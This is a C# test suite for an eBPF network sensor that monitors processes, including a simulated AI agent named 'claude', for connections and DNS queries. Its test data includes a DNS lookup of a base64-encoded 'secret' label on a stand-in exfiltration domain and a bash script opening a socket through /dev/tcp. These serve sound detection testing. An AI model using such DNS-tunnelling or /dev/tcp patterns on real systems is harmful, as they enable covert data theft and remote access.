using System.Net;
using System.Net.Sockets;
using System.Text;
using Canary.Events;
using Canary.Sensors.Ebpf;
using Xunit;

namespace Canary.Kernel.Tests.Ebpf;

public sealed class NetworkTests
{
    [Theory]
    [InlineData("127.0.0.1", "127.0.0.1")]
    [InlineData("::1", "::1")]
    [InlineData("::ffff:127.0.0.1", "127.0.0.1")]
    public void A_tagged_process_is_seen_connecting(string to, string seen)
    {
        using var listener = new TcpListener(IPAddress.IPv6Any, 0);
        listener.Server.DualMode = true;
        listener.Start();
        int port = ((IPEndPoint)listener.LocalEndpoint).Port;
        using var live = new Live();
        Assert.True(live.Ebpf.Tag(live.Me, 3));
        using var socket = new Socket(IPAddress.Parse(to).AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        if (socket.AddressFamily == AddressFamily.InterNetworkV6)
            socket.DualMode = true;
        socket.Connect(IPAddress.Parse(to), port);
        var connected = live.Await<Connected>(c => c.Port == port);
        Assert.Equal(IPAddress.Parse(seen), connected.Address);
        Assert.Equal(NetworkProtocol.Tcp, connected.Protocol);
        Assert.Equal(live.Me, connected.Actor);
        Assert.Single(live.Seen.OfType<Connected>(), c => c.Port == port);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void An_untagged_process_is_seen_connecting_only_when_all_are_asked_for(bool all)
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var end = (IPEndPoint)listener.LocalEndpoint;
        using var live = new Live(new EbpfOptions { AllNetwork = all });
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        socket.Connect(end);
        Live.Run("/bin/true", "after-connect");
        live.Executed("after-connect");
        live.Drain();
        Assert.Equal(all ? 1 : 0, live.Seen.Count(e => e is Connected c && c.Port == end.Port));
    }

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("::1")]
    public void The_first_datagram_to_an_address_is_seen_and_the_next_are_not(string to)
    {
        using var live = new Live();
        Assert.True(live.Ebpf.Tag(live.Me, 3));
        using var socket = new Socket(IPAddress.Parse(to).AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        for (int i = 0; i < 3; i++)
            socket.SendTo([1, 2, 3], new IPEndPoint(IPAddress.Parse(to), 40123));
        socket.SendTo([1], new IPEndPoint(IPAddress.Parse(to), 40124));
        live.Await<Connected>(c => c.Port == 40124);
        var first = Assert.Single(live.Seen.OfType<Connected>(), c => c.Port == 40123);
        Assert.Equal((NetworkProtocol.Udp, IPAddress.Parse(to), live.Me), (first.Protocol, first.Address, first.Actor));
    }

    [Theory]
    [InlineData("127.0.0.1", true)]
    [InlineData("127.0.0.1", false)]
    [InlineData("::1", true)]
    public void A_question_to_a_name_server_is_read(string server, bool connect)
    {
        using var live = new Live();
        Assert.True(live.Ebpf.Tag(live.Me, 3));
        var address = IPAddress.Parse(server);
        using var socket = new Socket(address.AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        byte[] question = Question("c2VjcmV0.exfil.example", 16);
        if (connect)
        {
            socket.Connect(address, 53);
            socket.Send(question);
        }
        else
        {
            socket.SendTo(question, new IPEndPoint(address, 53));
        }

        var asked = live.Await<DnsAsked>(_ => true);
        Assert.Equal(("c2VjcmV0.exfil.example", 16, address, live.Me), (asked.Name, asked.QueryType, asked.Server, asked.Actor));
    }

    [Fact]
    public void A_child_of_a_session_is_followed_from_its_first_instruction()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        int port = ((IPEndPoint)listener.LocalEndpoint).Port;
        using var folder = new Folder();
        string agent = folder.Script("claude", $"#!/bin/bash\n( exec 3<>/dev/tcp/127.0.0.1/{port} ) &\nwait\n");
        using var live = new Live(new EbpfOptions { AgentBasenames = ["claude"] });
        int pid = Live.Run(agent);
        var connected = live.Await<Connected>(c => c.Port == port);
        Assert.NotEqual(pid, connected.Actor.Pid);
        int at = live.Seen.IndexOf(connected);
        Assert.True(live.Seen.FindIndex(e => e is ProcessForked fork && fork.Child == connected.Actor) is >= 0 and var born && born < at);
    }

    private static byte[] Question(string name, byte type)
    {
        var bytes = new List<byte> { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
        foreach (string label in name.Split('.'))
        {
            bytes.Add((byte)label.Length);
            bytes.AddRange(Encoding.ASCII.GetBytes(label));
        }

        bytes.AddRange([0, 0, type, 0, 1]);
        return [.. bytes];
    }
}
